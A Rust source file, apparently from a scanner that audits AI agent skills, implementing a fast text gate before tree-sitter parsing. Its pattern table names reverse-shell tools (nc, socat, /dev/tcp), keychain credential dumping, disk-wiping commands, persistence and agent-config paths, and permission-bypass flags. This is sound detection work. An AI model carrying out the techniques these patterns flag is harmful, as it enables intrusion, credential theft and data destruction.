//! Whether a piece of code can hold anything the code rules look for, decided in one pass
//! over its text, before tree-sitter parses it.
//!
//! Parsing is nearly all of an audit's time (86% on `corpus-large`), and most code in
//! real skills (TypeScript examples, directory trees in unlabelled blocks, data-science
//! Python) names no downloader, decoder, credential, start-up file or destructive command.
//! Every finding of `shell.rs` and `code.rs` needs some word in the text: a command or
//! callee it names, a path it matches, a quote or `$` its obfuscation checks read. Each
//! gate below is the union, over those findings, of such a necessary condition, so a
//! fragment it rejects would have produced no finding if parsed. The conditions are
//! written from the scanners' own tables; `tests::gate_keeps_every_finding` audits the
//! labelled set and every rule fixture with and without the gates and compares, and
//! `Config::exhaustive` turns the gates off for the same comparison on any tree.
//!
//! The shell gate reads the text with its quotes removed, as the shell scanner reads
//! words (`c"ur"l` is `curl`); a removed quote also counts as a word boundary, since the
//! same text may be a string inside Python or JavaScript.

use std::ops::Range;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::patterns;

/// What must stand around an atom for it to count.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Edge {
    /// Anywhere, inside any word.
    Anywhere,
    /// A command name: not preceded by a word character, followed by the end of a shell
    /// word (blank, `;|&)<>\` or a backquote).
    Command,
    /// Not preceded by a word character (a name that may be followed by more: `mkfs.ext4`).
    Start,
    /// A callee: not preceded by a word character, and the next character that is not
    /// blank opens a call (`(`, a template's backquote, `?.(`, a comment, a line
    /// continuation).
    Call,
    /// A callee that is a bare name (`eval(…)`, not `re.eval(…)`): a call, and the last
    /// character before it that is not blank is not a `.`.
    Bare,
    /// A whole object (`process.env`), not one of its members: not followed by `.` or `[`.
    Whole,
    /// A whole word: not preceded or followed by a letter, digit, `_` or `-`.
    Word,
    /// An argument by itself (`.then(eval)`): the last character before it that is not
    /// blank is `(` or `,`, the next one `)` or `,`.
    Argument,
    /// A file name at the end of a path (`~/.bashrc`, not `this.profile` or `.bashrc.bak`):
    /// not preceded by a word character, not followed by one or by `.` or `-`.
    FileName,
}

/// What an atom is evidence of; a gate combines these.
#[derive(Clone, Copy)]
#[repr(u8)]
enum Atom {
    /// A command the shell rules read by itself: downloaders, decoders, credential
    /// readers, destructive and persistence commands.
    Shell,
    /// A path that runs code later or configures the agent (start-up files, autostart,
    /// git hooks, agents' settings) or turns permission checks off: read by the shell rules
    /// and by the code rules' file writes.
    Path,
    /// A command substitution (`$(`, a backquote).
    Substitution,
    /// A command that builds a name in a substitution (`printf`, `rev`, `tr`).
    Builder,
    /// Runs a shell command line (`subprocess.run`, `execSync`): its strings are shell.
    ShellCall,
    /// A [`Atom::ShellCall`] that is surely one: not a member `.exec`, which may be a
    /// regular expression's. What a command line downloaded or decoded needs.
    CommandLine,
    /// Runs code (`eval`, `exec`, `Function`, `vm.runInThisContext`).
    Exec,
    /// Sends or fetches over the network.
    Net,
    /// Decodes data (`b64decode`, `atob`).
    Decode,
    /// A call that decodes only with `base64`, `rot13` or `hex` in it (`.decode(…)`,
    /// `Buffer.from(…)`).
    DecodeWord,
    /// What makes a [`Atom::DecodeWord`] decode.
    DecodeCodec,
    /// Builds a string from pieces (`+`, `chr(`, `[::-1]`, `.join(`).
    Built,
    /// Looks up a name (`getattr`, `require`, `import`).
    Lookup,
    /// The whole environment (`os.environ`, `process.env`).
    Environment,
    /// Deletes a tree (`rmtree`, `rmSync`).
    Rmtree,
    /// The home directory, an argument that makes a tree deletion destructive.
    Home,
    /// A downloader (`curl`, `wget`, `GET`): what it fetches matters only if something
    /// runs it ([`Atom::Runner`], or a file it saved) or it sends a secret (the credential
    /// conditions, read apart).
    Download,
    /// Runs what it is given: a shell, an interpreter, `eval`, `source`, `.`, `iex`.
    Runner,
}

impl Atom {
    const fn bit(self) -> u32 {
        1 << self as u8
    }
}

const SHELL: &[(Atom, Edge)] = &[(Atom::Shell, Edge::Command)];
const DOWNLOAD: &[(Atom, Edge)] = &[(Atom::Download, Edge::Command)];
const RUNNER: &[(Atom, Edge)] = &[(Atom::Runner, Edge::Command)];
const PATH: &[(Atom, Edge)] = &[(Atom::Path, Edge::Anywhere)];
const RC_FILE: &[(Atom, Edge)] = &[(Atom::Path, Edge::FileName)];
const SHELL_CALL: &[(Atom, Edge)] = &[
    (Atom::ShellCall, Edge::Call),
    (Atom::CommandLine, Edge::Call),
];
const SHELL_BARE: &[(Atom, Edge)] = &[
    (Atom::ShellCall, Edge::Bare),
    (Atom::CommandLine, Edge::Bare),
];
const EXEC: &[(Atom, Edge)] = &[(Atom::Exec, Edge::Bare)];
const EXEC_CALL: &[(Atom, Edge)] = &[(Atom::Exec, Edge::Call)];
const EXEC_OR_ARGUMENT: &[(Atom, Edge)] = &[(Atom::Exec, Edge::Bare), (Atom::Exec, Edge::Argument)];
const NET: &[(Atom, Edge)] = &[(Atom::Net, Edge::Anywhere)];
const DECODE: &[(Atom, Edge)] = &[(Atom::Decode, Edge::Anywhere)];
const BUILT: &[(Atom, Edge)] = &[(Atom::Built, Edge::Anywhere)];
const LOOKUP: &[(Atom, Edge)] = &[(Atom::Lookup, Edge::Bare)];
const RMTREE: &[(Atom, Edge)] = &[(Atom::Rmtree, Edge::Call)];
const HOME: &[(Atom, Edge)] = &[(Atom::Home, Edge::Anywhere)];

/// The atoms: text, and what it is evidence of where it stands. The lists are the
/// scanners' own tables (`shell.rs` DOWNLOADERS, `is_decoder`, `reads_credentials`,
/// `destructive`, `persistence`; `patterns.rs`; the `Spec`s of `python.rs` and `js.rs`).
const ATOMS: &[(&str, &[(Atom, Edge)])] = &[
    // Downloaders.
    ("curl", DOWNLOAD),
    ("curlie", DOWNLOAD),
    ("wget", DOWNLOAD),
    (
        "http",
        &[(Atom::Download, Edge::Command), (Atom::Net, Edge::Anywhere)],
    ),
    ("https", DOWNLOAD),
    ("aria2c", DOWNLOAD),
    (
        "fetch",
        &[(Atom::Download, Edge::Command), (Atom::Net, Edge::Anywhere)],
    ),
    ("lwp-request", DOWNLOAD),
    ("GET", DOWNLOAD),
    ("xh", DOWNLOAD),
    // What runs a download: `shell.rs` SHELLS and INTERPRETERS (`python` starts
    // `python3.12`), and the commands that run their argument.
    ("sh", RUNNER),
    ("bash", RUNNER),
    ("zsh", RUNNER),
    ("dash", RUNNER),
    ("ksh", RUNNER),
    ("ash", RUNNER),
    ("fish", RUNNER),
    ("mksh", RUNNER),
    ("busybox", RUNNER),
    ("python", &[(Atom::Runner, Edge::Start)]),
    ("perl", RUNNER),
    ("ruby", RUNNER),
    ("node", RUNNER),
    ("php", RUNNER),
    ("pwsh", RUNNER),
    ("powershell", RUNNER),
    ("deno", RUNNER),
    ("bun", RUNNER),
    ("lua", RUNNER),
    ("Rscript", RUNNER),
    ("osascript", RUNNER),
    ("tclsh", RUNNER),
    ("source", RUNNER),
    // `.` as a command: its blank after it, so not every `.` of the code is a match.
    (". ", &[(Atom::Runner, Edge::Start)]),
    (".\t", &[(Atom::Runner, Edge::Start)]),
    (".\\\n", &[(Atom::Runner, Edge::Start)]),
    (".\\\r", &[(Atom::Runner, Edge::Start)]),
    (".<(", &[(Atom::Runner, Edge::Start)]),
    (".\r", &[(Atom::Runner, Edge::Start)]),
    (".\x0b", &[(Atom::Runner, Edge::Start)]),
    (".\x0c", &[(Atom::Runner, Edge::Start)]),
    ("iex", RUNNER),
    ("Invoke-Expression", RUNNER),
    // Decoders.
    (
        "base64",
        &[
            (Atom::Shell, Edge::Command),
            (Atom::DecodeCodec, Edge::Anywhere),
        ],
    ),
    ("base32", SHELL),
    (
        "gbase64",
        &[
            (Atom::Shell, Edge::Command),
            (Atom::DecodeCodec, Edge::Anywhere),
        ],
    ),
    ("openssl", SHELL),
    ("xxd", SHELL),
    ("uudecode", SHELL),
    (
        "b64decode",
        &[(Atom::Shell, Edge::Command), (Atom::Decode, Edge::Anywhere)],
    ),
    // Reading the environment or the keychain (`security find-generic-password`);
    // credential paths are the patterns' own regexes, and `export -p` is read apart.
    ("env", SHELL),
    ("printenv", SHELL),
    ("find-generic-password", &[(Atom::Shell, Edge::Anywhere)]),
    ("find-internet-password", &[(Atom::Shell, Edge::Anywhere)]),
    ("dump-keychain", &[(Atom::Shell, Edge::Anywhere)]),
    // Destructive commands.
    (
        "rm",
        &[(Atom::Shell, Edge::Command), (Atom::Rmtree, Edge::Call)],
    ),
    ("mkfs", &[(Atom::Shell, Edge::Start)]),
    // Devices written over (`dd of=/dev/sda`, `> /dev/nvme0n1`, `shred /dev/sdb`) and
    // network sockets (`> /dev/tcp/…`); not `/dev/null`.
    ("of=/dev/", &[(Atom::Shell, Edge::Anywhere)]),
    ("/dev/sd", &[(Atom::Shell, Edge::Anywhere)]),
    ("/dev/nvme", &[(Atom::Shell, Edge::Anywhere)]),
    ("/dev/disk", &[(Atom::Shell, Edge::Anywhere)]),
    ("/dev/hd", &[(Atom::Shell, Edge::Anywhere)]),
    ("/dev/tcp", &[(Atom::Shell, Edge::Anywhere)]),
    ("/dev/udp", &[(Atom::Shell, Edge::Anywhere)]),
    ("shred", SHELL),
    ("wipefs", SHELL),
    ("chmod", SHELL),
    ("chown", SHELL),
    ("-delete", &[(Atom::Shell, Edge::Anywhere)]),
    // Shells given to a network peer (`nc … -e /bin/sh`, `socat exec:bash tcp:…`). `nc`
    // with the blank its arguments need after it: alone, the two letters are in every
    // `function` and `async`, and each match costs a look around it.
    ("nc ", &[(Atom::Shell, Edge::Start)]),
    ("nc\t", &[(Atom::Shell, Edge::Start)]),
    ("ncat", SHELL),
    ("netcat", SHELL),
    ("socat", SHELL),
    ("push", SHELL),
    // Persistence and the agent's configuration.
    ("crontab", SHELL),
    ("launchctl", SHELL),
    ("systemctl", SHELL),
    ("mcp", SHELL),
    (".bashrc", RC_FILE),
    (".zshrc", RC_FILE),
    (".bash_profile", RC_FILE),
    (".profile", RC_FILE),
    (".zprofile", RC_FILE),
    (".zshenv", RC_FILE),
    (".zlogin", RC_FILE),
    (".bash_login", RC_FILE),
    (".cshrc", RC_FILE),
    (".tcshrc", RC_FILE),
    ("config.fish", PATH),
    ("/etc/profile", PATH),
    ("/etc/bash.bashrc", PATH),
    ("Library/Launch", PATH),
    // The `/etc` paths `patterns::autostart` names, not any file under `/etc` (a config
    // file read in an example is most of them).
    ("/etc/systemd/", PATH),
    ("/etc/cron", PATH),
    ("/etc/sudoers", PATH),
    ("/etc/rc.local", PATH),
    ("/etc/init.d/", PATH),
    ("/systemd/", PATH),
    ("/var/spool/cron", PATH),
    (".config/autostart", PATH),
    ("authorized_keys", PATH),
    (".git/hooks", PATH),
    (".claude/settings", PATH),
    (".claude.json", PATH),
    ("claude_desktop_config", PATH),
    (".cursor/", PATH),
    (".mcp.json", PATH),
    ("/mcp.json", PATH),
    ("mcp_config", PATH),
    (".codex/", PATH),
    (".gemini/", PATH),
    (".continue/", PATH),
    (".windsurf/", PATH),
    (".config/opencode/", PATH),
    (".aider.conf.yml", PATH),
    // Permission checks turned off.
    ("dangerously", PATH),
    ("bypassPermissions", PATH),
    ("--yolo", PATH),
    // Names built at run time in a substitution.
    ("$(", &[(Atom::Substitution, Edge::Anywhere)]),
    ("`", &[(Atom::Substitution, Edge::Anywhere)]),
    ("printf", &[(Atom::Builder, Edge::Word)]),
    ("rev", &[(Atom::Builder, Edge::Word)]),
    ("tr", &[(Atom::Builder, Edge::Word)]),
    // Calls that run a command line: their strings are read as shell.
    // Python's are exact names: bare (`run(…)` after `from subprocess import run`), or
    // `subprocess.…`, `os.system`, `os.popen`, `pty.spawn`; JavaScript's are the last part
    // of the callee (`child_process.execSync`).
    (
        "subprocess",
        &[
            (Atom::ShellCall, Edge::Anywhere),
            (Atom::CommandLine, Edge::Anywhere),
        ],
    ),
    ("child_process", &[(Atom::CommandLine, Edge::Anywhere)]),
    ("system", SHELL_CALL),
    ("popen", SHELL_CALL),
    ("Popen", SHELL_BARE),
    ("run", SHELL_BARE),
    ("call", SHELL_BARE),
    ("check_call", SHELL_BARE),
    ("check_output", SHELL_BARE),
    ("spawn", SHELL_CALL),
    ("spawnSync", SHELL_CALL),
    (
        "exec",
        &[
            (Atom::ShellCall, Edge::Call),
            (Atom::CommandLine, Edge::Bare),
            (Atom::Exec, Edge::Bare),
            (Atom::Exec, Edge::Argument),
        ],
    ),
    ("execSync", SHELL_CALL),
    ("execa", SHELL_CALL),
    ("execaCommand", SHELL_CALL),
    ("execaSync", SHELL_CALL),
    ("execCommand", SHELL_CALL),
    // Calls that run code.
    (
        "eval",
        &[
            (Atom::Exec, Edge::Bare),
            (Atom::Exec, Edge::Argument),
            (Atom::Runner, Edge::Command),
        ],
    ),
    ("compile", EXEC),
    ("builtins.exec", EXEC_CALL),
    ("builtins.eval", EXEC_CALL),
    ("window.eval", EXEC_CALL),
    (
        "globalThis.eval",
        &[(Atom::Exec, Edge::Call), (Atom::Lookup, Edge::Anywhere)],
    ),
    ("run_path", EXEC_CALL),
    ("Function", EXEC),
    ("setTimeout", EXEC_OR_ARGUMENT),
    ("setInterval", EXEC_OR_ARGUMENT),
    ("runInThisContext", EXEC_CALL),
    ("runInNewContext", EXEC_CALL),
    ("runInContext", EXEC_CALL),
    ("Script", EXEC_CALL),
    // The network.
    ("urlopen", NET),
    ("urlretrieve", NET),
    ("requests", NET),
    ("httpx", NET),
    ("urllib", NET),
    ("aiohttp", NET),
    ("smtplib", NET),
    ("ftplib", NET),
    ("session", NET),
    ("client", NET),
    ("socket", NET),
    ("connect", NET),
    ("sendall", NET),
    ("dns", NET),
    ("axios", NET),
    ("got", NET),
    ("needle", NET),
    ("XMLHttpRequest", NET),
    ("WebSocket", NET),
    ("sendBeacon", NET),
    ("Connection", NET),
    ("superagent", NET),
    // Decoding.
    ("b32decode", DECODE),
    ("b85decode", DECODE),
    ("a85decode", DECODE),
    ("decodebytes", DECODE),
    ("decodestring", DECODE),
    ("unhexlify", DECODE),
    ("fromhex", DECODE),
    ("decompress", DECODE),
    ("marshal", DECODE),
    ("atob", DECODE),
    ("unescape", DECODE),
    ("decodeURIComponent", DECODE),
    (
        "fromCharCode",
        &[
            (Atom::Decode, Edge::Anywhere),
            (Atom::Built, Edge::Anywhere),
        ],
    ),
    ("decode", &[(Atom::DecodeWord, Edge::Anywhere)]),
    ("Buffer", &[(Atom::DecodeWord, Edge::Anywhere)]),
    ("rot13", &[(Atom::DecodeCodec, Edge::Anywhere)]),
    ("hex", &[(Atom::DecodeCodec, Edge::Anywhere)]),
    // Strings built from pieces.
    ("+", BUILT),
    ("chr(", BUILT),
    ("[::-1]", BUILT),
    (".join(", BUILT),
    // Names looked up.
    ("getattr", LOOKUP),
    ("__import__", LOOKUP),
    ("import_module", &[(Atom::Lookup, Edge::Call)]),
    ("globals", LOOKUP),
    ("locals", LOOKUP),
    ("vars", LOOKUP),
    ("require", LOOKUP),
    ("import", LOOKUP),
    ("globalThis", &[(Atom::Lookup, Edge::Anywhere)]),
    ("Reflect.get", &[(Atom::Lookup, Edge::Call)]),
    // The whole environment.
    ("os.environ", &[(Atom::Environment, Edge::Whole)]),
    ("process.env", &[(Atom::Environment, Edge::Whole)]),
    // Deleting a tree, and the home directory.
    ("rmtree", RMTREE),
    ("rmSync", RMTREE),
    ("rimraf", RMTREE),
    ("remove", RMTREE),
    ("removeSync", RMTREE),
    ("rmdirSync", RMTREE),
    ("home", HOME),
    ("HOME", HOME),
    ("expanduser", HOME),
];

#[allow(clippy::expect_used)] // Constant literals; every test builds the automaton.
static AUTOMATON: LazyLock<AhoCorasick> = LazyLock::new(|| {
    // A DFA, not the NFA `AhoCorasick::new` picks for this many patterns: the overlapping
    // search over corpus-large's Markdown takes 16 ms instead of 52 (its tables, with the
    // alphabet compressed to the atoms' bytes, are built once a process).
    AhoCorasick::builder()
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(ATOMS.iter().map(|(s, _)| s))
        .expect("literal atoms")
});

/// The quotes of `src` removed (the shell's reading of a word), with where each was.
struct Unquoted<'a> {
    text: std::borrow::Cow<'a, str>,
    /// Offsets in `text` where a quote was removed, ascending.
    removed: Vec<usize>,
}

impl<'a> Unquoted<'a> {
    fn of(src: &'a str) -> Self {
        if !src.contains(['"', '\'']) {
            return Self {
                text: src.into(),
                removed: Vec::new(),
            };
        }
        let mut text = String::with_capacity(src.len());
        let mut removed = Vec::new();
        for piece in src.split_inclusive(['"', '\'']) {
            match piece.strip_suffix(['"', '\'']) {
                Some(head) => {
                    text.push_str(head);
                    removed.push(text.len());
                }
                None => text.push_str(piece),
            }
        }
        Self {
            text: text.into(),
            removed,
        }
    }

    fn quote_at(&self, at: usize) -> bool {
        self.removed.binary_search(&at).is_ok()
    }

    /// Whether the atom at `start..end` stands as `edge` asks.
    fn stands(&self, start: usize, end: usize, edge: Edge) -> bool {
        let bytes = self.text.as_bytes();
        let before = bytes.get(..start).unwrap_or_default();
        let after = bytes.get(end..).unwrap_or_default();
        let opens = || {
            self.quote_at(start)
                || before
                    .last()
                    .is_none_or(|&b| !(b.is_ascii_alphanumeric() || b == b'_' || b == b'-'))
        };
        let calls = || {
            self.quote_at(end)
                || after
                    .iter()
                    .find(|b| !b.is_ascii_whitespace())
                    .is_none_or(|&b| matches!(b, b'(' | b'`' | b'?' | b'/' | b'\\' | b'#'))
        };
        match edge {
            Edge::Anywhere => true,
            Edge::Start => opens(),
            Edge::Command => {
                opens()
                    && (self.quote_at(end)
                        || after.first().is_none_or(|&b| {
                            b.is_ascii_whitespace()
                                || matches!(
                                    b,
                                    b';' | b'|' | b'&' | b')' | b'<' | b'>' | b'`' | b'\\'
                                )
                        }))
            }
            Edge::Call => opens() && calls(),
            Edge::Word => {
                opens()
                    && (self.quote_at(end)
                        || after.first().is_none_or(|&b| {
                            !(b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
                        }))
            }
            Edge::Bare => {
                // After a `.` it is a member (`re.eval`), unless blanks stand around the
                // dot (`window . eval`), which code.rs reads without them.
                let dot = before.iter().rposition(|b| !b.is_ascii_whitespace());
                opens()
                    && calls()
                    && dot.is_none_or(|d| {
                        before.get(d) != Some(&b'.')
                            || d + 1 < before.len()
                            || d.checked_sub(1)
                                .and_then(|p| before.get(p))
                                .is_some_and(u8::is_ascii_whitespace)
                    })
            }
            Edge::Argument => {
                let prev = before.iter().rev().find(|b| !b.is_ascii_whitespace());
                let next = after.iter().find(|b| !b.is_ascii_whitespace());
                matches!(prev, Some(b'(' | b','))
                    && matches!(next, Some(b')' | b','))
                    && !self.quote_at(start)
                    && !self.quote_at(end)
            }
            Edge::Whole => {
                self.quote_at(end) || after.first().is_none_or(|&b| b != b'.' && b != b'[')
            }
            Edge::FileName => {
                opens()
                    && (self.quote_at(end)
                        || after.first().is_none_or(|&b| {
                            !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
                        }))
            }
        }
    }

    /// The atoms found, as a set of [`Atom::bit`]s; stops early once `enough` says so.
    fn atoms(&self, enough: impl Fn(u32) -> bool) -> u32 {
        let mut found = 0;
        for m in AUTOMATON.find_overlapping_iter(self.text.as_ref()) {
            let Some(&(_, meanings)) = ATOMS.get(m.pattern().as_usize()) else {
                continue;
            };
            for &(atom, edge) in meanings {
                if found & atom.bit() == 0 && self.stands(m.start(), m.end(), edge) {
                    found |= atom.bit();
                }
            }
            if enough(found) {
                break;
            }
        }
        found
    }
}

fn has(found: u32, atom: Atom) -> bool {
    found & atom.bit() != 0
}

/// The shell's atoms alone decide.
fn shell_enough(found: u32) -> bool {
    has(found, Atom::Shell)
        || has(found, Atom::Path)
        || (has(found, Atom::Substitution) && has(found, Atom::Builder))
        || (has(found, Atom::Download) && has(found, Atom::Runner))
}

/// A download saved to a file, which a later command may run by its path: a downloader
/// beside an output flag (`-o`, `-O`, `-sSLO`, `--output`, `--remote-name`), a redirection,
/// or `wget`, which saves by default.
fn saves_download(found: u32, unquoted: &str) -> bool {
    has(found, Atom::Download)
        && (unquoted.contains('>')
            || unquoted.contains("wget")
            || unquoted.contains("--output")
            || unquoted.contains("--remote-name")
            || unquoted.match_indices('-').any(|(i, _)| {
                let flags = unquoted.get(i + 1..).unwrap_or_default();
                !flags.starts_with('-')
                    && flags
                        .bytes()
                        .take_while(|c| !c.is_ascii_whitespace())
                        .any(|c| c == b'o' || c == b'O')
            }))
}

/// Whether shell code `src` can hold a finding of `shell.rs`.
pub(crate) fn shell(src: &str) -> bool {
    let unquoted = Unquoted::of(src);
    let found = unquoted.atoms(shell_enough);
    shell_enough(found)
        || saves_download(found, &unquoted.text)
        || shell_text(src, &unquoted, None)
        || inline_code(&unquoted.text)
}

/// `python -c '…'`, `node -e '…'`: code in a string, which `shell.rs` hands to the Python
/// and JavaScript scanners, each behind its own gate.
fn inline_code(unquoted: &str) -> bool {
    (unquoted.contains("python") || unquoted.contains("node"))
        && [" -c", " -e", " --eval", " -p", " --print", "\t-c", "\t-e"]
            .iter()
            .any(|f| unquoted.contains(f))
}

/// The shell's conditions that are not single words: credential paths, fork bombs,
/// words built from two quoted or expanded parts, `${x:0:3}` slices. `src` is shell, or
/// Python or JavaScript (`strings`) whose string literals may be shell.
fn shell_text(src: &str, unquoted: &Unquoted<'_>, strings: Option<Literals>) -> bool {
    // An ANSI-C string (`$'\x63url'`) can spell any name or path.
    src.contains("$'")
        || patterns::mentions_private(&unquoted.text)
        || patterns::mentions_private(src)
        || dotenv_word(&unquoted.text)
        || dotenv_word(src)
        || hooks_path(&unquoted.text)
        || export_all(&unquoted.text)
        || fork_bomb(src)
        || slice_expansion(src)
        || match strings {
            None => built_word(src),
            Some(lang) => built_word_in_literals(src, lang),
        }
}

/// How the string literals of the code a gate reads are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Literals {
    Python,
    JavaScript,
}

/// [`built_word`] over the shell that `code.rs` hands from a string literal to `shell.rs`:
/// the literal's content, as `string_inner` takes it from the tree. The literals are found
/// by a lexer of comments and strings; where it cannot be sure of where they are without
/// the parser (a literal left open at the end of a line or of the text, an interpolation,
/// a JavaScript `/` that may open a regular expression on a line with quotes), the answer
/// is yes, and the code is parsed.
///
/// Reading from every quote to the end of its line instead made a docstring's `"""`, or a
/// list of strings written without spaces, look like a command name of two quoted parts:
/// on corpus-large, half the Python and JavaScript parsed was parsed for that alone.
fn built_word_in_literals(src: &str, lang: Literals) -> bool {
    match literals(src, lang) {
        Some(contents) => contents
            .into_iter()
            .any(|r| built_word(src.get(r).unwrap_or_default())),
        None => true,
    }
}

/// The content of each string literal of `src` that a shell call may be given; `None`
/// when the lexer cannot tell.
fn literals(src: &str, lang: Literals) -> Option<Vec<Range<usize>>> {
    let b = src.as_bytes();
    // JSX text holds apostrophes and `//` that are neither strings nor comments.
    if lang == Literals::JavaScript
        && (memchr::memmem::find(b, b"</").is_some() || memchr::memmem::find(b, b"/>").is_some())
    {
        return None;
    }
    let mut out = Vec::new();
    // Python's literals, whole (prefix to closing delimiter), for implicit concatenation.
    let mut last: Option<Range<usize>> = None;
    let mut run_start: Option<usize> = None;
    let mut run_len = 0usize;
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        match (c, lang) {
            (b'#', Literals::Python) => {
                i = line_end(b, i);
                continue;
            }
            (b'/', Literals::JavaScript) => match b.get(i + 1) {
                Some(b'/') => {
                    i = line_end(b, i);
                    continue;
                }
                Some(b'*') => {
                    let close = memchr::memmem::find(b.get(i + 2..)?, b"*/")?;
                    i += 2 + close + 2;
                    continue;
                }
                _ => {
                    // Division or a regular expression, which may hold a quote: only a line
                    // without quotes is read on.
                    let rest = b.get(i + 1..line_end(b, i)).unwrap_or_default();
                    if rest.iter().any(|&c| matches!(c, b'"' | b'\'' | b'`'))
                        || rest.windows(2).any(|w| w == b"/*")
                    {
                        return None;
                    }
                    i += 1;
                    continue;
                }
            },
            (b'"' | b'\'', _) | (b'`', Literals::JavaScript) => {}
            _ => {
                i += 1;
                continue;
            }
        }
        // A literal opens at `i`.
        let prefix = if lang == Literals::Python {
            python_prefix(b, i)
        } else {
            0
        };
        let triple =
            lang == Literals::Python && b.get(i + 1) == Some(&c) && b.get(i + 2) == Some(&c);
        let open = if triple { 3 } else { 1 };
        let start = i + open;
        let fstring = lang == Literals::Python
            && b.get(i - prefix..i)
                .unwrap_or_default()
                .iter()
                .any(|p| matches!(p, b'f' | b'F'));
        // Where the literal closes, and where `string_inner`'s content starts: after
        // JavaScript's leading escapes (its first fragment), after an f-string's leading
        // interpolations.
        let (close, content_start) = if fstring {
            fstring_end(b, start, c, triple, 0)?
        } else {
            let close = literal_end(b, start, c, triple, lang)?;
            let content = match lang {
                Literals::JavaScript => skip_js_escapes(b, start, close)?,
                Literals::Python => start,
            };
            (close, content)
        };
        let end = close + open;
        // A template's `${…}` may hold other templates: left to the parser.
        if lang == Literals::JavaScript
            && c == b'`'
            && b.get(start..close)
                .unwrap_or_default()
                .windows(2)
                .any(|w| w == b"${")
        {
            return None;
        }
        let node = i - prefix..end;
        // The content read to the literal's end, a superset of the content `string_inner`
        // takes (a word only gains parts as it goes on); the node's text less its first
        // and last byte when there is none.
        if content_start < close {
            out.push(content_start..close);
        } else if node.len() >= 2 {
            out.push(node.start + 1..node.end - 1);
        }
        if lang == Literals::Python {
            // Literals side by side (blanks, line continuations, comments between) are one
            // `concatenated_string`, read whole less its first and last byte.
            let joined = last
                .as_ref()
                .is_some_and(|l| only_blanks_between(b, l.end, node.start));
            if joined {
                run_len += 1;
            } else {
                if let (Some(s), Some(l)) = (run_start, &last)
                    && run_len >= 2
                {
                    out.push(s + 1..l.end - 1);
                }
                run_start = Some(node.start);
                run_len = 1;
            }
            last = Some(node.clone());
        }
        i = end;
    }
    if let (Some(s), Some(l)) = (run_start, &last)
        && run_len >= 2
    {
        out.push(s + 1..l.end - 1);
    }
    Some(out)
}

/// How deep f-strings are read inside f-strings before the parser is left to it.
const MAX_FSTRING_DEPTH: u8 = 8;

/// Where the Python f-string whose content starts at `start` closes, and where its first
/// piece of text (not an interpolation) starts (the close when it has none). Each
/// interpolation is read to its matching brace, the strings inside it as literals of
/// their own (so `f"{x["a"]}"` closes where Python 3.12 closes it).
fn fstring_end(b: &[u8], start: usize, q: u8, triple: bool, depth: u8) -> Option<(usize, usize)> {
    if depth > MAX_FSTRING_DEPTH {
        return None;
    }
    let mut i = start;
    let mut first: Option<usize> = None;
    loop {
        let c = *b.get(i)?;
        match c {
            b'\\' => {
                first.get_or_insert(i);
                i += 2;
            }
            b'\n' if !triple => return None,
            c if c == q && (!triple || (b.get(i + 1) == Some(&q) && b.get(i + 2) == Some(&q))) => {
                return Some((i, first.unwrap_or(i)));
            }
            // An escaped brace is not in the grammar's text nodes: the text starts after it.
            b'{' | b'}' if b.get(i + 1) == Some(&c) => i += 2,
            b'{' => i = interpolation_end(b, i + 1, q, triple, depth)?,
            _ => {
                first.get_or_insert(i);
                i += 1;
            }
        }
    }
}

/// Past the `}` that closes the f-string interpolation whose expression starts at `i`.
fn interpolation_end(b: &[u8], mut i: usize, q: u8, triple: bool, depth: u8) -> Option<usize> {
    let mut braces = 1usize;
    let mut brackets = 0usize;
    loop {
        let c = *b.get(i)?;
        match c {
            b'{' => {
                braces += 1;
                i += 1;
            }
            b'[' | b'(' => {
                brackets += 1;
                i += 1;
            }
            b']' | b')' => {
                brackets = brackets.saturating_sub(1);
                i += 1;
            }
            // A format spec (`{x:>10}`, `{x:'^3}`): text, quotes and all, to the closing
            // brace, with replacement fields of its own (`{x:>{w}}`).
            b':' if braces == 1 && brackets == 0 => {
                return format_spec_end(b, i + 1, q, triple, depth);
            }
            b'}' => {
                braces -= 1;
                i += 1;
                if braces == 0 {
                    return Some(i);
                }
            }
            b'"' | b'\'' => {
                let prefix = python_prefix(b, i);
                let inner_triple = b.get(i + 1) == Some(&c) && b.get(i + 2) == Some(&c);
                let open = if inner_triple { 3 } else { 1 };
                let f = b
                    .get(i - prefix..i)
                    .unwrap_or_default()
                    .iter()
                    .any(|p| matches!(p, b'f' | b'F'));
                let close = if f {
                    fstring_end(b, i + open, c, inner_triple, depth + 1)?.0
                } else {
                    literal_end(b, i + open, c, inner_triple, Literals::Python)?
                };
                i = close + open;
            }
            // A comment or a line break where the literal cannot hold one: the parser's.
            b'#' => return None,
            b'\n' if !triple => return None,
            _ => i += 1,
        }
    }
}

/// Past the `}` that closes an interpolation whose format spec starts at `i`; `None` where
/// the f-string's own quote or a line break ends it first (left to the parser).
fn format_spec_end(b: &[u8], mut i: usize, q: u8, triple: bool, depth: u8) -> Option<usize> {
    loop {
        let c = *b.get(i)?;
        match c {
            b'}' => return Some(i + 1),
            b'{' => i = interpolation_end(b, i + 1, q, triple, depth)?,
            b'\\' => i += 2,
            b'\n' if !triple => return None,
            c if c == q => return None,
            _ => i += 1,
        }
    }
}

/// The offset of the end of the line holding `i` (its `\n`, or the end of the text).
fn line_end(b: &[u8], i: usize) -> usize {
    b.get(i..)
        .and_then(|r| memchr::memchr(b'\n', r))
        .map_or(b.len(), |e| i + e)
}

/// How many string-prefix letters (`r`, `b`, `u`, `f`, in any case, at most two) stand
/// right before the quote at `i`, not ending a longer name.
fn python_prefix(b: &[u8], i: usize) -> usize {
    let mut n = 0;
    while n < 2
        && i > n
        && b.get(i - n - 1)
            .is_some_and(|c| matches!(c.to_ascii_lowercase(), b'r' | b'b' | b'u' | b'f'))
    {
        n += 1;
    }
    let before = if i > n { b.get(i - n - 1) } else { None };
    if before.is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'_') {
        0
    } else {
        n
    }
}

/// Where the literal whose content starts at `start` closes (the offset of its closing
/// delimiter), backslashes escaping the next byte; `None` when it does not close, or a
/// one-line literal meets the end of its line.
fn literal_end(b: &[u8], start: usize, q: u8, triple: bool, lang: Literals) -> Option<usize> {
    let multiline = triple || (lang == Literals::JavaScript && q == b'`');
